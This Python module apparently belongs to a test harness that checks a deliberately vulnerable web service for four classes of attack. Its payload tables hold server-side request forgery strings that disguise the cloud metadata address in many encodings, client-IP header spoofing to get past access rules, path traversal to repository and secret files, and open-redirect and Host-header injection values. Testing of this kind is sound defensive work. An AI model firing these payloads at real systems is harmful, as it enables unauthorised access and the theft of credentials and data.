"""Whom a request has others ask, whom it says it comes from, and what it is told."""

import ipaddress
import socket

from classes.shells import leaked
from model import AttackClass, Raw, encoded, one_by_one

# --- addresses that nobody may have asked ---------------------------------------------------------

META = "169.254.169.254"
FORMS = {
    "as it is": (META, META), "a number": ("2852039166", META),
    "hexadecimal": ("0xa9fea9fe", META),
    "hexadecimal, in capitals": ("0XA9FEA9FE", META), "octal": ("025177524776", META),
    "octal parts": ("0251.0376.0251.0376", META),
    "hexadecimal parts": ("0xa9.0xfe.0xa9.0xfe", META),
    "mixed parts": ("169.0xfe.0251.254", META), "three parts": ("169.254.43518", META),
    "two parts": ("169.16689662", META), "two parts, hexadecimal": ("0xa9.0xfea9fe", META),
    "with zeros": ("169.254.169.0000376", META), "behind a blank": (f" {META}", META),
    "before a blank": (f"{META} ", META), "before a new line": (f"{META}\n", META),
    "full-width digits": ("".join(chr(ord(c) + 0xfee0) if c.isdigit() else c for c in META), META),
    "full-width dots": (META.replace(".", "\uff0e"), META),
    "digits in circles": ("\u2460\u2465\u2468.254.169.254", META),
    "an ideographic dot": ("169\u2024254\u2024169\u2024254", META),
    "superscripts": ("\u00b9\u2076\u2079.254.169.254", META),
    "mathematical digits": ("\U0001d7cf\U0001d7d4\U0001d7d7.254.169.254", META),
    "behind another": (f"127.0.0.1 {META}", META),
    "encoded twice": (Raw("169%252e254%252e169%252e254"), META),
    "behind an option": (f"-- {META}", META), "in quotes": (f"'{META}'", META),
    "a number in quotes": ("\"2852039166\"", META), "cut by a NUL": (f"{META}\0.test", META),
    "translated": ("64:ff9b::a9fe:a9fe", "64:ff9b::a9fe:a9fe"),
    "translated, in dots": (f"64:ff9b::{META}", "64:ff9b::a9fe:a9fe"),
    "translated, of local use": ("64:ff9b:1:a9fe:a9:fe00::", "64:ff9b:1:a9fe:a9:fe00::"),
    "by a tunnel": ("2002:a9fe:a9fe::", "2002:a9fe:a9fe::"),
    "by a tunnel, a host in it": ("2002:a9fe:a9fe::1", "2002:a9fe:a9fe::1"),
    "a neighbour": ("fe80::2%bh-near", "fe80::2"),
    "a neighbour, by number": ("fe80::2%{index}", "fe80::2"),
    "all neighbours": ("ff02::1%bh-near", "ff02::1"),
    "all routers": ("ff02::2%bh-near", "ff02::2"),
    "many": ("-I bh-near 224.0.0.1", "224.0.0.1"),
    "many, as a number": ("-I bh-near 0xe0000001", "224.0.0.1"),
    "all on the wire": ("-b 198.51.100.255", "198.51.100.255"),
    "nobody": ("0.0.0.0", "127.0.0.1"), "nothing": ("0", "127.0.0.1"), "0x0": ("0x0", "127.0.0.1"),
    "nobody, in six": ("::", "::1"), "a name": ("localhost", "127.0.0.1 ::1"),
    "a name, by its other": ("ip6-localhost", "::1"),
    "a name in full width": ("\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54",
                             "127.0.0.1 ::1"),
}


def make_it_ask(target, row):
    text, wanted = row.payload
    text = text if isinstance(text, Raw) else text.replace("{index}", str(_index()))
    start = len(target.scene.wire.seen)
    target.ask(f"/ping?ip={encoded(text)}", timeout=10)
    unwanted = {ipaddress.ip_address(each) for each in wanted.split()}
    return next((f"an echo went to {address}" for address, _ in target.scene.wire.since(start)
                 if ipaddress.ip_address(address) in unwanted), "")


def _index():
    return socket.if_nametoindex("bh-near")


# --- from whom ------------------------------------------------------------------------------------

STRANGER = "127.0.0.9"  # who may not ask /healthz and /metrics
HEADERS = ("X-Forwarded-For", "X-Real-IP", "X-Client-IP", "Client-IP", "X-Cluster-Client-IP",
           "True-Client-IP", "CF-Connecting-IP", "Fastly-Client-IP", "X-Originating-IP",
           "X-Remote-IP", "X-Remote-Addr", "X-Forwarded", "Forwarded-For", "Forwarded",
           "X-Original-Forwarded-For")
SPOOFED = {f"{name}, to look inside": ("/metrics", name, "127.0.0.1") for name in HEADERS} | {
    f"{name}, for the trail": ("trail", name, "203.0.113.{n}") for name in HEADERS[:9]} | {
    "underscored X_Forwarded_For, to look inside": ("/metrics", "X_Forwarded_For", "127.0.0.1"),
    "X-Forwarded-For, two": ("/healthz", "X-Forwarded-For", "127.0.0.1, 127.0.0.9"),
    "X-Forwarded-For, in six": ("/healthz", "X-Forwarded-For", "::1"),
    "X-Forwarded-For, by its name": ("/healthz", "X-Forwarded-For", "localhost"),
    "Forwarded, in its words": ("/healthz", "Forwarded", "for=\"[::1]\""),
    "X-Real-IP, of another network": ("/healthz", "X-Real-IP", "10.0.0.1"),
    "X-Forwarded-For, for the password": ("/audit", "X-Forwarded-For", "127.0.0.1"),
    "X-Real-IP, for the password": ("/audit", "X-Real-IP", "::1"),
}


def spoof(target, rows):
    """Inside: it answers who is not let in. In the trail: it says what the header said."""
    seen = []
    for number, row in enumerate(rows):
        path, name, value = row.payload
        value = value.replace("{n}", str(number + 1))
        headers = {name.replace("_", "__").replace("-", "_"): value}
        where = f"/?name={row.mark}" if path == "trail" else path
        answer = target.ask(where, source=STRANGER, **headers)
        seen.append("it answers a stranger" if answer.status == 200 and path != "trail" else "")
    target.settle()
    clients = {str(record["input"]).removeprefix("name="): str(record["client"])
               for record in target.records()}
    return [evidence or ("the trail says what the header said" if row.payload[0] == "trail" and
                         clients.get(row.mark) != STRANGER else "")
            for row, evidence in zip(rows, seen)]


# --- what is told ---------------------------------------------------------------------------------

TOLD = {
    "a division": "/calculate?expr=1/0", "a name that is not there": "/calculate?expr=nothing",
    "a syntax error": "/calculate?expr=(", "a string too many": "/calculate?expr=1%2b'a'",
    "an unending recursion": "/calculate?expr=(lambda%20f:f(f))(lambda%20f:f(f))",
    "an index": "/calculate?expr=[][1]", "an empty expression": "/calculate?expr=",
    "a form that is none": "/?name={", "a form's index": "/?name={0}", "a form's attribute":
    "/?name={app.nothing}", "a quote in a filter": "/audit?debug=1&route='",
    "a letter as a limit": "/audit?debug=1&limit=x", "a file that is not there": "/console/nothing",
    "a folder": "/console/..", "all files": "/console/../", "a file of the repository":
    "/console/../../../.git/config", "another file": "/console/../docker-compose.yml",
    "an image's recipe": "/console/../Dockerfile", "the source": "/console/../door.py",
    "a cookie that is none": ("/audit", {"Cookie": "state=x"}),
    "a cookie of another kind": ("/audit", {"Cookie": "state=gAR9lC4="}),
    "a password that is none": ("/audit?debug=1&q=%ff&limit='", {"Authorization": "Basic !"}),
    "a range": ("/console/nothing", {"Range": "bytes=0-1"}), "a NUL in a path": "/console/%00x",
    "a long path": "/console/" + "x" * 300, "a method that is none": ("/console/x", {}, "PROPFIND"),
    "headers, traced": ("/", {"X-Secret": "x"}, "BREW"), "the status page": "/server-status",
    "the other status page": "/nginx_status", "the settings": "/.env", "the history": "/.git/HEAD",
    "a copy": "/server.py~", "a backup": "/backup.sql", "the environment": "/actuator/env",
    "information": "/phpinfo.php", "a profile": "/debug/pprof/", "the console of a framework":
    "/console/debug?x=1",
}


def be_told(target, row):
    path, headers, method = (row.payload + ({}, "GET")[len(row.payload) - 1:]
                             if isinstance(row.payload, tuple) else (row.payload, {}, "GET"))
    answer = target.ask(path, method, timeout=10,
                        **{name.replace("-", "_"): value for name, value in headers.items()})
    words = answer.body + b"".join(value.encode() for _, value in answer.headers)
    trace = b"Traceback" in words or b"/usr/lib" in words or b"DELIBERATELY BROKEN" in words
    return leaked(target, words) or ("the inside of a program" if trace else "")


# --- where to -------------------------------------------------------------------------------------

MOVES = {
    **{f"by a parameter: {what}": ("next", text) for what, text in {
        "another site": "https://{mark}.test/", "without a scheme": "//{mark}.test/",
        "three slashes": "///{mark}.test/", "backslashes": "\\\\{mark}.test/",
        "a slash and a backslash": "/\\{mark}.test/", "a user": "https://localhost@{mark}.test/",
        "a script": "javascript:alert('{mark}.test')", "data": "data:text/html,{mark}.test",
        "a tab": "/\t/{mark}.test/", "in capitals": "HTTPS://{mark}.test",
        "full-width dots": "https://{mark}\uff0etest/", "an ideographic dot":
        "https://{mark}\u3002test/"}.items()},
    **{f"by a header: {name}": (name, "{mark}.test") for name in (
        "Host", "X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "Forwarded")},
    "by an absolute target": ("target", "{mark}.test"),
    "by a Host with a port": ("Host", "localhost:@{mark}.test"),
    "by a Host with a user": ("Host", "localhost@{mark}.test"),
    "by a second Host": ("second", "{mark}.test"),
}


def be_moved(target, row):
    """Location, or a link in the page, leads to the attacker's."""
    kind, text = row.payload
    text = text.replace("{mark}", row.mark)
    if kind == "next":
        answer = target.ask(f"/console?next={encoded(text)}")
    elif kind == "second":
        answer = target.ask("/console", Host=text)
    elif kind == "target":
        answer = target.ask(f"http://{text}/console", host=text)
    elif kind == "Host":
        answer = target.ask("/console", host=text)
    else:
        value = f"host={text}" if kind == "Forwarded" else text
        answer = target.ask("/console", **{kind.replace("-", "_"): value})
    there = (answer.header("location") or "").encode("latin-1", "replace") + answer.body
    return "it leads there" if row.mark.encode() in there else ""


CLASSES = [
    AttackClass("server-side-requests", "Echoes to addresses that are closed", ["asks-inside"],
                "validation", "an echo on the wire to an address that nobody may have asked",
                FORMS, one_by_one(make_it_ask), alone=True),
    AttackClass("address-spoofing", "Who asks, by a header's word",
                ["client-other-address", "outsiders-watch"], "edge",
                "an answer that strangers do not get, or a false client in the trail", SPOOFED,
                spoof),
    AttackClass("disclosure", "What errors and forgotten files tell", ["errors-tell", "edge-shows",
                "log-tells"], "edge", "a secret, a path or a program's inside in the answer", TOLD,
                one_by_one(be_told)),
    AttackClass("redirects", "Where an answer leads", ["page-reads-across", "page-changed"], "edge",
                "a Location or a link to the attacker's host", MOVES, one_by_one(be_moved)),
]
